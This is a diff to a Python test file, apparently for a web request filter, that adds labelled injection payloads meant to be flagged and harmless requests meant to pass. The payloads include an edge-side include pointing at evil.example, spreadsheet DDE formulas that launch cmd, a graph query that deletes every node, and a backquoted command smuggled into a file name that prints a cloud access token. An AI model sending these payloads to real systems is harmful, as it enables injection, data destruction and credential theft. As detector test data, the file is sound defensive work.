@@ -408,6 +408,23 @@ NOT_FREE = {
     "a secret file by name": make_features(target="/dl?file=.env"),
     "a mathematical-alphanumeric keyword": make_features(target="/s?q=1%27+%F0%9D%90%A8%F0%9D%90%AB+1%3D1--"),
     "CSS escapes": _post("/api/c", "application/json", b'{"city":"<div style=\\"background-image:\\\\0075\\\\0072\\\\006C\\\\0028"}'),
+    # code of the languages besides SQL, shell and markup that an application may hand a value to
+    "a Go template definition": make_features(target="/s?q=%7B%7Bdefine+%22a%22%7D%7Dx%7B%7Bend%7D%7D"),
+    "a Django tag that loads a library": _post("/contact", "application/x-www-form-urlencoded", b"msg=%7B%25+load+log+%25%7D"),
+    "an edge-side include": make_features(target="/s?ref=%3Cesi%3Ainclude+src%3D%22http%3A%2F%2Fevil.example%2F%22%2F%3E"),
+    "a terminal escape": make_features(target="/api/timeline?lang=%1b%5D0%3Bowned%07"),
+    "a spreadsheet formula with a DDE link": _post("/signup", "application/x-www-form-urlencoded", b"name=%3Dcmd%7C%27+%2Fc+calc%27%21A1"),
+    "a spreadsheet formula that calls": _post("/api/contacts", "application/json", b'{"company": "@SUM(1+9)*cmd|\' /C calc\'!A0"}'),
+    "GraphQL introspection in a value": _post("/api/feedback", "application/json", b'{"note": "{__schema{types{name}}}"}'),
+    "a selection nested five deep": make_features(target="/t/1?path=query%7Ba%7Bb%7Bc%7Bd%7Be%7D%7D%7D%7D%7D"),
+    "a search engine's query object": _post("/s", "application/x-www-form-urlencoded",
+                                            b"filter=%7B%22query_string%22%3A%7B%22query%22%3A%22secret%22%7D%7D"),
+    "a search engine's match-all": make_features(target="/s?filter=*:*"),
+    "Solr local parameters": make_features(target="/s?q=%7B%21dismax+qf%3Dpassword%7Dx"),
+    "a MongoDB aggregation stage": make_features(target="/s?view=%5B%7B%22%24lookup%22%3A%7B%22from%22%3A%22users%22%7D%7D%5D"),
+    "a graph database's clause": _post("/api/tags", "application/json", b'{"name": "x) MATCH (n) DETACH DELETE n //"}'),
+    "a Windows variable's substring": make_features(target="/s?c=%25COMSPEC%3A~-7%2C3%25+%2Fc+ver"),
+    "a backquoted command glued to a word": _post("/api/files", "application/json", b'{"name": "report.pdf`gcloud auth print-access-token`"}'),
 }
 
 
@@ -436,6 +453,13 @@ FREE = {
                    "&groups=C0001%3A1%2CC0002%3A0; sid=AbC123.sig")]),
     "behind a front": make_features(target="/search?q=red+shoes", headers=[*BROWSER, ("X-Forwarded-For", "203.0.113.9, 10.0.0.2"),
                                                                            ("X-Forwarded-Proto", "https"), ("Via", "1.1 nginx")]),
+    "a template asked about by name": make_features(target="/search?q=%7B%7B+range+%7D%7D+go+template"),
+    "a shell variable asked about": make_features(target="/search?q=%24%7BHOME%7D+not+expanded"),
+    "a password with carets and dollars": _post("/login", "application/x-www-form-urlencoded", b"user=ana&password=Su%5ELx%24Qa9%5E"),
+    "a phone number": _post("/checkout", "application/x-www-form-urlencoded", b"phone=%2B1+(555)+010-2000"),
+    "a reply with inline code": _post("/t/9/reply", "application/x-www-form-urlencoded",
+                                      b"reply=Rename+%60tmp%60+to+%60pending%60%2C+then+%60Len%60%2C+%60MinLen%60+and+%60Len()%60+apply."),
+    "analytics properties": _post("/e/", "application/json", b'{"event": "$pageview", "properties": {"$os": "Linux", "$browser": "Firefox"}}'),
 }
 
 
